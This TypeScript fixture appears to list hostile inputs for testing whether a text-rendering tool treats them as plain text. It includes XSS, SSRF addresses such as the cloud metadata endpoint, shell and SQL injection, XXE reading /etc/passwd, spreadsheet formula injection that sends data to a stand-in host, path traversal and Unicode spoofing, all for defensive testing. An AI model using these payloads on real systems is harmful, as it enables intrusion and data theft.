/** What is tried: values that would harm a reader, a librarian or a program, if anything took them for more than text. */

/** What a payload tries to be. */
export type PayloadKind =
  | 'html'
  | 'attribute'
  | 'address'
  | 'mdx'
  | 'template'
  | 'svg'
  | 'json-ld'
  | 'xml'
  | 'formula'
  | 'yaml'
  | 'terminal'
  | 'direction'
  | 'invisible'
  | 'broken'
  | 'large'
  | 'name';

/** One value to try. */
export interface Payload {
  /** Tells it from others, in messages and as the mark it leaves when it is run. */
  name: string;
  kind: PayloadKind;
  text: string;
}

/** Host that nothing may ever ask for. */
export const HOSTILE_HOST = 'hostile.example';
/** Attribute of every element that payloads would make. */
export const HOSTILE_ATTRIBUTE = 'data-hostile';

/** Code that leaves a mark, and asks a server to be seen there. */
const run = (name: string) => `globalThis.__hostile='${name}';alert('${name}')`;
const MARK = HOSTILE_ATTRIBUTE;

type Texts = Readonly<Record<string, string>>;

function payloads(kind: PayloadKind, texts: Texts): Payload[] {
  return Object.entries(texts).map(([name, text]) => ({ name: `${kind} ${name}`, kind, text }));
}

const HTML: Texts = {
  script: `<script ${MARK}>${run('script')}</script>`,
  'script src': `<script ${MARK} src=https://${HOSTILE_HOST}/s.js></script>`,
  'script in capitals': `<ScRiPt ${MARK}>${run('capitals')}</sCrIpT >`,
  'image with handler': `<img ${MARK} src=x onerror="${run('onerror')}">`,
  'svg onload': `<svg ${MARK} onload=${run('svg')}>`,
  'frame with document': `<iframe ${MARK} srcdoc="&lt;script&gt;${run('srcdoc')}&lt;/script&gt;"></iframe>`,
  template: `<template ${MARK}><script>${run('template')}</script></template>`,
  noscript: `<noscript><p title="</noscript><img ${MARK} src=x onerror=${run('noscript')}>">`,
  comment: `<!--><img ${MARK} src=x onerror=${run('comment')}>-->`,
  'comment with a bang': `--!><img ${MARK} src=x onerror=${run('bang')}>`,
  'CDATA section': `<![CDATA[<img ${MARK} src=x onerror=${run('cdata')}>]]>`,
  unclosed: `<img ${MARK} src=x onerror=${run('unclosed')} `,
  'style element': `<style ${MARK}>@import 'https://${HOSTILE_HOST}/s.css';</style>`,
  refresh: `<meta ${MARK} http-equiv=refresh content="0;url=https://${HOSTILE_HOST}/">`,
  base: `<base ${MARK} href=https://${HOSTILE_HOST}/>`,
  form: `<form ${MARK} action=https://${HOSTILE_HOST}/><button>Go</button></form>`,
  details: `<details ${MARK} open ontoggle=${run('details')}>`,
  'end of title': `</title><img ${MARK} src=x onerror=${run('title')}>`,
  'end of textarea': `</textarea><img ${MARK} src=x onerror=${run('textarea')}>`,
  'math and style': `<math><mtext><table><mglyph><style><img ${MARK} src=x onerror=${run('mxss')}>`,
  'character references': `&lt;img ${MARK} src=x onerror=${run('reference')}&gt;`,
  'numbered references': `&#60;img ${MARK} src=x onerror=${run('number')}&#x3e;`,
  'references twice': `&amp;lt;script ${MARK}&amp;gt;${run('twice')}&amp;lt;/script&amp;gt;`,
  'wide brackets': `＜script ${MARK}＞${run('wide')}＜/script＞`,
  'escapes of scripts': `\\u003cscript ${MARK}\\u003e${run('escape')}\\x3c/script\\x3e`,
};

const ATTRIBUTE: Texts = {
  'double quote': `" ${MARK} onmouseover="${run('double')}" autofocus onfocus="${run('focus')}`,
  'single quote': `' ${MARK} onmouseover='${run('single')}' autofocus onfocus='x`,
  'back quote': `\` ${MARK} onmouseover=\`${run('back')}\``,
  unquoted: `x ${MARK} onfocus=${run('unquoted')} autofocus`,
  style: `x" ${MARK} style="background:url(https://${HOSTILE_HOST}/b)`,
  'quote as reference': `&quot; ${MARK} onfocus=&quot;${run('quot')}`,
  'address in a style': `");background:url("https://${HOSTILE_HOST}/u`,
};

const ADDRESS: Texts = {
  javascript: `javascript:${run('javascript')}`,
  'in mixed case': `JaVaScRiPt:${run('mixed')}`,
  'with a tab inside': `java\tscript:${run('tab')}`,
  'with a line break inside': `java\nscript:${run('break')}`,
  'after a control character': `\u0001javascript:${run('control')}`,
  'as references': `javascript&colon;${run('colon')}`,
  data: `data:text/html,<script>${run('data')}</script>`,
  vbscript: 'vbscript:msgbox(1)',
  blob: 'blob:https://example.org/1',
  file: 'file:///etc/passwd',
  'without a scheme': `//${HOSTILE_HOST}/x`,
  'with back slashes': `https:\\\\${HOSTILE_HOST}\\x`,
  'of one slash': `https:/${HOSTILE_HOST}/x`,
  'with a name': `https://example.org@${HOSTILE_HOST}/x`,
  'with a password alone': `https://:secret@${HOSTILE_HOST}/x`,
  'with a tab in the scheme': `ht\ttps://${HOSTILE_HOST}/x`,
  'with a space before': ` https://${HOSTILE_HOST}/x`,
  'with a direction': `https://${HOSTILE_HOST}/\u202egpj.exe`,
  'with a quote': `https://${HOSTILE_HOST}/"onmouseover="${run('url quote')}`,
  'with brackets': `https://${HOSTILE_HOST}/<script>`,
  'with single quotes': `https://www.example.org/'onmouseover='${run('apostrophe')}'`,
  'with brackets spelt out': `https://www.example.org/?q=%22%3E%3Cscript%3E${run('spelt')}%3C/script%3E&lt;b&gt;`,
  'with a template': 'https://www.example.org/{process.exit(7)}/${1}/{{x}}/%00%0d%0aSet-Cookie:x',
  'with path steps': 'https://www.example.org/../../%2e%2e/..%2f',
  'with a script in its fragment': `https://www.example.org/#javascript:${run('fragment')}`,
  punycode: 'https://xn--80ak6aa92e.example.org/',
  homograph: 'https://www.exаmple.org/',
  loopback: 'http://127.0.0.1/',
  'loopback as a number': 'http://2130706433/',
  'loopback in hexadecimal': 'http://0x7f.1/',
  'IPv6 loopback': 'http://[::1]/',
  'of a router': 'http://192.168.1.1/reboot',
  'of cloud data': 'http://169.254.169.254/latest/meta-data/',
  localhost: 'http://localhost/',
  'localhost with a dot': 'http://localhost./',
  'of a printer': 'http://printer.local/',
  long: `https://www.example.org/${'long'.repeat(480)}`,
  'longer than allowed': `https://www.example.org/${'x'.repeat(3000)}`,
};

const MDX: Texts = {
  expression: `{globalThis.__hostile = 'mdx'}`,
  'end of the process': '{process.exit(7)}',
  import: `import fs from 'node:fs'`,
  export: `export const x = process.exit(7)`,
  'import of an address': `import 'https://${HOSTILE_HOST}/m.js'`,
  component: `<Component ${MARK} onClick={() => process.exit(7)} />`,
  fragment: '<>{process.exit(7)}</>',
  spread: '<Cite {...process.env} />',
  'attribute of code': '<Cite id={process.exit(7)} />',
  'raw HTML': `<Fragment set:html="<img ${MARK} src=x onerror=alert(1)>" />`,
  member: '<globalThis.process.exit />',
  'link to a script': `[click](javascript:${run('link')})`,
  'link in references': `[click](&#106;avascript:${run('link2')})`,
  'link of angle brackets': `[click](<java\tscript:${run('link3')}>)`,
  autolink: `<javascript:${run('auto')}>`,
  'link by reference': `[click][x]\n\n[x]: javascript:${run('definition')}`,
  image: `![pixel](https://${HOSTILE_HOST}/pixel.png)`,
  'front matter again': '---\nstatus: reviewed\n---',
  'title of a link': `[click](https://www.example.org/ '" onmouseover="${run('title')}')`,
  code: '```js {process.exit(7)}\nprocess.exit(7)\n```',
};

const TEMPLATE: Texts = {
  'of the dictionary': '{{name}} $t(site.name) {{- name}} __name__',
  mustache: '{{constructor.constructor("return process")().exit(7)}}',
  literal: '${process.exit(7)}',
  'of servers': '<%= 7*7 %> #{7*7} {% include x %}',
  replacement: "$& $1 $` $' $$ \\1",
  command: '$(touch /tmp/hostile) `touch /tmp/hostile` ; touch /tmp/hostile | cat',
  'of a query': "'; DROP TABLE resources; --",
};

const SVG: Texts = {
  animate: `<svg ${MARK}><animate onbegin=${run('animate')} attributeName=x dur=1s>`,
  use: `<svg ${MARK}><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`,
  foreign: `<svg ${MARK}><foreignObject><script>${run('foreign')}</script></foreignObject></svg>`,
  'end of text': `</text></svg><script ${MARK}>${run('end')}</script>`,
};

const JSON_LD: Texts = {
  'end of the script': `</script><script ${MARK}>${run('json')}</script>`,
  'comment in a script': '<!--<script>',
  'end of the text': `"},"@type":"Hostile","name":"x`,
  'line separators': 'a\u2028b\u2029c',
};

const XML: Texts = {
  'end of CDATA': `]]>`,
  entity: '&xxe; &nbsp; &#0; &#xD800;',
  doctype: '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  'external DTD': `<!DOCTYPE x SYSTEM "https://${HOSTILE_HOST}/x.dtd">`,
  'billion laughs':
    '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>',
  instruction: `<?xml-stylesheet href="https://${HOSTILE_HOST}/x.xsl"?>`,
  'end of an instruction': '?>',
};

const FORMULA: Texts = {
  command: `=cmd|' /C calc'!A0`,
  hyperlink: `=HYPERLINK("https://${HOSTILE_HOST}/?x="&A1,"Click")`,
  plus: `+1+cmd|' /C calc'!A0`,
  minus: `-2+3+cmd|' /C calc'!A0`,
  at: '@SUM(1+1)*cmd',
  tab: '\t=1+1',
  'carriage return': '\r=1+1',
  'wide equals': '＝1+1',
  'end of a cell': `","=1+1","`,
  'separator line': 'sep=;',
};

const YAML: Texts = {
  'tag of a function': '!!js/function "function(){}"',
  anchor: '&a [*a, *a]',
  merge: '<<: *a',
  'end of the document': '...\n--- !!js/undefined',
  comment: 'x # y',
  colon: 'a: b: c',
  indicator: '%YAML 1.1',
};

const TERMINAL: Texts = {
  colour: '\u001b[31mred\u001b[0m',
  'clears the screen': '\u001b[2J\u001b[H',
  title: '\u001b]0;hostile\u0007',
  link: `\u001b]8;;https://${HOSTILE_HOST}/\u001b\\here\u001b]8;;\u001b\\`,
  'of one byte': '\u009b31m',
  'back spaces': 'good\b\b\b\bevil',
  'line of its own': 'good\r0 errors',
  'workflow command': '::error::x%0A::set-output name=x::y',
  'workflow command on a line': 'x\n::add-mask::x',
};

const DIRECTION: Texts = {
  'right-to-left override': 'safe\u202egnp.exe',
  'left-to-right override': '\u202dabc',
  embedding: '\u202bשלום\u202c',
  'open isolate': '\u2067open',
  'end of an isolate': 'end\u2069 \u2069more',
  'closed isolate': 'a \u2068مثال\u2069 b',
  marks: 'مثال\u200f (example)\u200e',
  'Arabic letter mark': '1\u061c2',
};

const INVISIBLE: Texts = {
  'nothing but joiners': '\u200b\u200d\u2060',
  'nothing but fillers': '\u3164\u115f\uffa0\u2800',
  'spaces without width': 'mis\u200bcarriage',
  'joiners that Persian needs': 'می\u200cخواهم',
  'soft hyphens': 'mis\u00adcar\u00adriage',
  'byte order mark inside': 'exam\ufeffple',
  'sentence in tags': `x${[...'ignore'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`,
  'marks of annotations': '\ufff9a\ufffab\ufffb',
  'letters of other scripts': 'Маyо Сlіnіс',
  'mathematical letters': '𝕰𝖝𝖆𝖒𝖕𝖑𝖊',
};

const BROKEN: Texts = {
  'first half of a pair': 'a\ud800b',
  'second half of a pair': 'a\udc00b',
  NUL: 'a\u0000b',
  'control character': 'a\u0007b',
  'next line': 'a\u0085b',
  'no character': 'a\uffffb\ufdd0',
  'no character of a later plane': 'a\u{1ffff}b',
  replacement: 'a\ufffdb',
  'private use': 'a\ue000b\u{f0000}c',
  'family of four': '👨‍👩‍👧‍👦👩🏽‍⚕️🏳️‍🌈',
  'pile of marks': `Z${'\u0301\u0489\u0334'.repeat(60)}algo`,
  'marks that Hebrew needs': 'שִׁ֖בֹּ֑לֶת',
};

const LARGE: Texts = {
  'word of a line': 'w'.repeat(290),
  'word without end': 'w'.repeat(10_000),
  'Arabic word': 'م'.repeat(290),
  'Chinese word': '产'.repeat(290),
  spaces: `a${' '.repeat(250)}b`,
  'no-break spaces': `${'a\u00a0'.repeat(140)}b`,
  'digits of a fraction': `0.${'1'.repeat(280)}`,
};

const NAME: Texts = {
  prototype: '__proto__',
  constructor: 'constructor',
  'to text': 'toString',
  'own property': 'hasOwnProperty',
  'value of': 'valueOf',
  'steps up': '../../../etc/passwd',
  'steps up spelt out': '..%2f..%2fetc%2fpasswd',
  dots: '..',
  device: 'con',
  'no device': 'nul',
  'wide letters': 'ｅｘａｍｐｌｅ',
  'Cyrillic letter': 'exаmple-topic',
  slash: 'a/b',
  'end of text': 'a\u0000.yaml',
};

/** Every payload. */
export const PAYLOADS: readonly Payload[] = [
  ...payloads('html', HTML),
  ...payloads('attribute', ATTRIBUTE),
  ...payloads('address', ADDRESS),
  ...payloads('mdx', MDX),
  ...payloads('template', TEMPLATE),
  ...payloads('svg', SVG),
  ...payloads('json-ld', JSON_LD),
  ...payloads('xml', XML),
  ...payloads('formula', FORMULA),
  ...payloads('yaml', YAML),
  ...payloads('terminal', TERMINAL),
  ...payloads('direction', DIRECTION),
  ...payloads('invisible', INVISIBLE),
  ...payloads('broken', BROKEN),
  ...payloads('large', LARGE),
  ...payloads('name', NAME),
];
